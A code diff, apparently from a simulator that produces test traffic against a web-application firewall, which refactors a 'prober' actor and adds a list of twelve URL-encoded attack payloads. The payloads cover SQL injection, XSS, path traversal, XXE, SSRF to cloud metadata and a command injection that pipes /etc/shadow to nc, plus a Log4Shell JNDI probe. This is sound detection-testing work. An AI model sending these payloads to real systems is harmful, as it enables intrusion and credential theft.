@@ -1,4 +1,4 @@
-//! Those who try published vulnerabilities from a list, and somebody who tries one.
+//! Those who try vulnerabilities or other attacks from a list, and somebody who tries one.
 
 use std::time::Duration;
 
@@ -6,6 +6,7 @@ use shield::timeline::Call;
 use traffic::Timestamp;
 
 use super::actor::{Actor, Asked, Client};
+use super::lists::{ListReader, Pace};
 use crate::dice::Dice;
 
 /// Requests that exploit what was published, each another vulnerability.
@@ -16,55 +17,33 @@ const PROBES: [&str; 4] = [
     "/api/products?page=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
 ];
 
-/// Tries one after the other, and reads honest pages in between.
-#[derive(Debug)]
-pub struct Prober {
-    client: Client,
-    from: Timestamp,
-    /// Honest pages after each probe.
-    between: u32,
-    pace_ms: u32,
-    asked: u32,
-    first: u32,
+/// Searches, each of which a rule of its own takes for an attack, and none for one on a published
+/// vulnerability: of these two are enough.
+const ATTACKS: [&str; 12] = [
+    "/api/products?q=1%27%20UNION%20SELECT%20name%2C%20secret%20FROM%20users--%20",
+    "/api/products?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
+    "/api/products?q=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
+    "/api/products?q=%3B%20cat%20%2Fetc%2Fshadow%20%7C%20nc%20203.0.113.5%2099",
+    "/api/products?q=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
+    "/api/products?q=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F",
+    "/api/products?q=*)(uid=*))(%7C(uid=*",
+    "/api/products?q=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
+    "/api/products?q=O%3A8%3A%22Evil%5CJob%22%3A1%3A%7Bs%3A3%3A%22cmd%22%3Bs%3A2%3A%22id%22%3B%7D",
+    "/api/products?q=%27%20or%20count(%2Fuser)%3D1%20or%20%27a%27%3D%27b",
+    "/api/products?q=1%3B%20WAITFOR%20DELAY%20%270%3A0%3A9%27--",
+    "/api/products?q=%3C%21DOCTYPE%20a%20%5B%3C%21ENTITY%20b%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E",
+];
+
+/// Tries the published vulnerabilities one after the other.
+#[must_use]
+pub fn prober(client: Client, pace: Pace, mut dice: Dice) -> ListReader {
+    ListReader::new("prober", &PROBES, client, pace).in_order(dice.below(4), 1)
 }
 
-impl Prober {
-    /// All of the list once, in an order of its own.
-    #[must_use]
-    pub fn new(
-        client: Client,
-        from: Timestamp,
-        between: u32,
-        pace_ms: u32,
-        mut dice: Dice,
-    ) -> Self {
-        Self { client, from, between, pace_ms, asked: 0, first: dice.below(4) }
-    }
-
-    fn next(&mut self) -> Option<Call> {
-        let turn = self.between + 1;
-        let (probe, is_probe) = (self.asked / turn, self.asked.is_multiple_of(turn));
-        self.asked += 1;
-        let number = (self.first + probe) as usize % PROBES.len();
-        let target = PROBES.get(number).filter(|_| (probe as usize) < PROBES.len())?;
-        Some(self.client.get(if is_probe { target } else { "/api/products/7" }))
-    }
-}
-
-impl Actor for Prober {
-    fn kind(&self) -> &'static str {
-        "prober"
-    }
-
-    fn begin(&mut self) -> Vec<Asked> {
-        let at = self.from;
-        self.next().map(|call| Asked { at, call }).into_iter().collect()
-    }
-
-    fn answered(&mut self, _: &Call, _: bool, _: u16, at: Timestamp) -> Vec<Asked> {
-        let at = at.after(Duration::from_millis(u64::from(self.pace_ms)));
-        self.next().map(|call| Asked { at, call }).into_iter().collect()
-    }
+/// Searches with one attack after the other: a tool, or a course that learns about them.
+#[must_use]
+pub const fn searcher(kind: &'static str, client: Client, pace: Pace) -> ListReader {
+    ListReader::new(kind, &ATTACKS, client, pace)
 }
 
 /// Tries the link of an advisory, to see whether it concerns this site, and reads on.
